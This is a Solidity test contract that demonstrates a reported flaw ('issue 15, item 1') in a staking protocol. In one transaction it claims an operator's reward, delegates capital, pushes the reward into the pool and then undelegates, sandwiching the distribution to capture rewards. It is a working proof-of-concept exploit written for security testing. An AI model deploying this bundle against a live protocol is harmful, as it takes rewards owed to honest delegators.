// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IRewardsDistributor} from "../interfaces/IRewardsDistributor.sol";
import {IStaking} from "../interfaces/IStaking.sol";

/// @title Test-only attacker of issue 15, item 1: in one transaction, claims an operator's reward of `epoch`,
/// delegates `capital`, pushes the reward into the pool and undelegates everything it holds. Not deployed by the
/// protocol. (Anyone can deploy such a contract: claim and push are permissionless.)
contract RewardSandwich {
    /// @notice Runs the bundle; the caller must have sent `capital` OPEN to this contract first.
    /// @param rewards the rewards distributor
    /// @param staking the staking contract
    /// @param epoch the rewarded epoch (already recorded)
    /// @param index the operator's leaf index
    /// @param operator the operator
    /// @param reward the leaf's amount
    /// @param proof the leaf's proof
    /// @param capital OPEN to delegate for the length of the bundle
    /// @return requestId the unbonding request holding everything it delegated (and whatever it took)
    function run(
        IRewardsDistributor rewards,
        IStaking staking,
        uint64 epoch,
        uint256 index,
        address operator,
        uint256 reward,
        bytes32[] calldata proof,
        uint256 capital
    ) external returns (uint256 requestId) {
        rewards.claim(epoch, index, operator, reward, proof);
        IERC20(staking.token()).approve(address(staking), capital);
        staking.delegate(operator, capital, 0);
        rewards.pushRewards(operator, epoch, epoch);
        (uint256 shares, , ) = staking.positionOf(operator, address(this));
        requestId = staking.undelegate(operator, shares);
    }

    /// @notice Withdraws the request once it is released and sends the OPEN to the caller.
    /// @param staking the staking contract
    /// @param requestId the request
    /// @return amount OPEN received
    function withdraw(IStaking staking, uint256 requestId) external returns (uint256 amount) {
        amount = staking.withdraw(requestId);
        IERC20(staking.token()).transfer(msg.sender, amount);
    }
}
